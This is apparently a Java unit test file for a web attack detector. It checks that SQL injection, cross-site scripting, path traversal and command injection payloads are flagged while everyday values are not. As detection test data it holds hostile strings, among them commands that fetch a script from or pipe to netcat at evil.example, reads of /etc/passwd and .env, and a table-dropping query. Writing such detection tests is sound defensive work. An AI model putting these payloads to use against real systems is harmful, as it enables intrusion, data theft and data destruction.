package io.perimeter.analyzer.findings;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.perimeter.analyzer.findings.AttackPatterns.Source;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The attack patterns: payloads that must match, and everyday values that must not. */
class AttackPatternsTest {

    @ParameterizedTest
    @ValueSource(strings = {"' or 1=1--", "admin'--", "x' OR 'a'='a", "\" or \"\"=\"", "1 or 1=1", "1' and 1=2 union select null,version()--",
            "1 UNION ALL SELECT username, password FROM users", "1;--", "1; DROP TABLE users", "1' AND SLEEP(5)#",
            "1)) or benchmark(10000000,md5(1))#", "'; waitfor delay '0:0:5'--", "1 union/**/select 1",
            "1' and extractvalue(1,concat(0x7e,@@version))--", "x' or username like '%", "%27%20OR%201%3D1--"})
    void sqlInjection(String value) {
        assertThat(AttackPatterns.detect(value, Source.QUERY)).contains(RuleId.ATTACK_SQL_INJECTION);
    }

    @ParameterizedTest
    @ValueSource(strings = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "\" onmouseover=\"alert(1)", "javascript:alert(document.domain)", "<body onload=fetch('//x')>",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "x\"><ScRiPt>prompt(1)</sCrIpT>", "data:text/html;base64,PHNjcmlwdD4="})
    void crossSiteScripting(String value) {
        assertThat(AttackPatterns.detect(value, Source.QUERY)).contains(RuleId.ATTACK_XSS);
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"../../etc/passwd => QUERY", "..\\..\\windows\\win.ini => QUERY",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd => QUERY", "..%2f..%2fboot.ini => QUERY", "/static/../app.config => PATH",
            "/files/%252e%252e/%252e%252e/secret => PATH", "/proc/self/environ => BODY", "....//....//etc/passwd => QUERY",
            "C:\\Windows\\System32\\drivers\\etc\\hosts => BODY", "../../../.env => BODY"})
    void pathTraversal(String value, Source source) {
        assertThat(AttackPatterns.detect(value, source)).contains(RuleId.ATTACK_PATH_TRAVERSAL);
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"x;cat /etc/passwd => QUERY", "127.0.0.1 | id => QUERY", "a && whoami => BODY", "$(id) => BODY",
            "`id` => QUERY", "file.txt; curl http://evil.example/x.sh => BODY", "x | nc evil.example 4444 => QUERY",
            "1;sleep 10 => QUERY", "() { :; }; /bin/bash -c 'id' => HEADER", "x;bash -c 'id' => BODY", "a%3Bls -la%3B => QUERY",
            "test$(sleep 5) => QUERY"})
    void commandInjection(String value, Source source) {
        assertThat(AttackPatterns.detect(value, source)).contains(RuleId.ATTACK_COMMAND_INJECTION);
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"O'Brien => QUERY", "Rock 'n' roll => BODY", "D'Angelo and O'Neil => BODY",
            "I'm here, or am I? => BODY", "Tom & Jerry => BODY", "Please select one or more items from the list => BODY",
            "release-1.2..1.3 => QUERY", "/api/v1..2/items => PATH", "see ../docs for more => QUERY", "../images/logo.png => BODY",
            "2+2=4 => QUERY", "50% off today => QUERY", "color: '#fff' => BODY", "\"name\";\"email\";\"phone\" => BODY",
            "cats; catalog; category => BODY", "Use `ls` to list files => BODY", "JavaScript: The Good Parts => BODY",
            "The onload event fires once => BODY", "a <b>bold</b> move => BODY", "x = 1 and y = 2 => BODY",
            "https://example.com/path?x=1&y=2 => QUERY", "user@example.com => QUERY", "price>=10 => QUERY",
            "sleep well; see you => BODY", "id=5;name=pat => QUERY", "#!/usr/bin/env python => BODY"})
    void everydayValuesAreNotAttacks(String value, Source source) {
        assertThat(AttackPatterns.detect(value, source)).as(value).isEmpty();
    }

    /**
     * The prefilters only skip regular expressions that could not match: with and without them, the same rules for
     * every value of the labelled classification corpus, the payloads and everyday values above, common headers, and
     * near misses of each prefilter (a separator before another word, an {@code =} without a keyword, Windows in a
     * User-Agent), in every place a value can come from.
     */
    @Test
    void prefiltersGiveTheAnswersOfThePatternsAlone() throws IOException {
        List<String> values = new ArrayList<>(List.of(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
                "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36", "shop-ios/7.4.1 CFNetwork/1568 Darwin/24.0",
                "https://shop.example/cart?step=2&coupon=SPRING", "10.0.0.1, 192.168.1.7", "a=1;b=2", "x; drop", "x;drop table t",
                "1 ;  --", "1;\n-- x", "1 ;\tselect 1", "a=b or c", "1 and 2=2", "1 or 2=3", "q=x&&y", "echo hi | sort",
                "a|wget http://x.example/a", "a& curl https://x.example", "x\ncat /etc/hosts", "a;  ls -la;", "a ; id;",
                "a;idea", "C:/Windows/System32/x", "c:\\windows\\win.ini", "windows 11", "/.env", "a/../b/../c",
                "x ${ifs} y", "cmd /c dir", "() { :; }; echo", "a{b;c}", "$(whoami)", "sleep;5", "x || ping -c 1 host",
                "text/html;charset=utf-8", "javascript:void(0)", "o'reilly; drop", "\"a\";\"b\"",
                "/users/7/profile?sort=order", "a=b or", "x=1 and", "1 or\t1=1", "1 AND\n2=2", "x into outfile '/tmp/x'",
                "1 into dumpfile '/tmp/y'", "load_file('/etc/hosts')", "mobile=1 order=2",
                // values of letters, digits and - _ . , @ + only: the words that let them through
                "@@version", "1 and @@version", "exec xp_cmdshell", "x from sqlite_master", "1 into outfile x",
                "1 INTO DUMPFILE x", "information_schema", "1 UNION ALL SELECT 2", "document.cookie", "document . cookie",
                "C boot.ini", "win.ini", "powershell -enc abc", "..", ".. ..", "sleep 5", "waitfor delay", "a or 1", "a and b",
                // one of each character the prefilters mark
                "a/*'*/b", "1/*x*/or/**/1=1", "x_y@z", "a$b{c", "p|q", "u&v", "`x`", "a\\b", "a\nb", "k=v; x"));
        values.addAll(List.of("' or 1=1--", "admin'--", "1;--", "1; DROP TABLE users", "1 union/**/select 1",
                "%27%20OR%201%3D1--", "<svg/onload=alert(1)>", "..%2f..%2fboot.ini", "....//....//etc/passwd",
                "x;cat /etc/passwd", "127.0.0.1 | id", "a && whoami", "`id`", "x | nc evil.example 4444",
                "() { :; }; /bin/bash -c 'id'", "a%3Bls -la%3B", "test$(sleep 5)", "cats; catalog; category",
                "sleep well; see you", "id=5;name=pat", "Tom & Jerry", "x = 1 and y = 2"));
        ObjectMapper json = new ObjectMapper();
        for (String line : Files.readAllLines(Path.of("src/test/resources/classification/corpus.jsonl"))) {
            if (!line.isBlank()) {
                values.add(json.readTree(line).get("value").asText());
            }
        }
        assertThat(values).hasSizeGreaterThan(1_000);
        int attacks = 0;
        for (String value : values) {
            for (Source source : Source.values()) {
                String v = source == Source.PATH && !value.startsWith("/") ? "/" + value : value;
                var reference = AttackPatterns.detect(v, source, false);
                assertThat(AttackPatterns.detect(v, source, true)).as(source + " " + v).isEqualTo(reference);
                attacks += reference.isEmpty() ? 0 : 1;
            }
        }
        assertThat(attacks).isGreaterThan(50);
    }

    /** Lower case with runs of spaces, tabs, carriage returns, vertical tabs and form feeds as one space. */
    @Test
    void normalisedValuesHaveTheirWhitespaceRunsCollapsed() {
        for (String value : List.of("Mozilla/5.0 (Windows NT 10.0; Win64)", "a  b", "a\tb", "a \t\r b", "A\u000bB\fC",
                "line\nbreak", " lead", "trail  ", "plain", "x\r\ny")) {
            String expected = value.toLowerCase(java.util.Locale.ROOT).replaceAll("[ \\t\\r\\u000b\\f]+", " ");
            assertThat(AttackPatterns.normalise(value)).as(value).isEqualTo(expected);
        }
    }
}
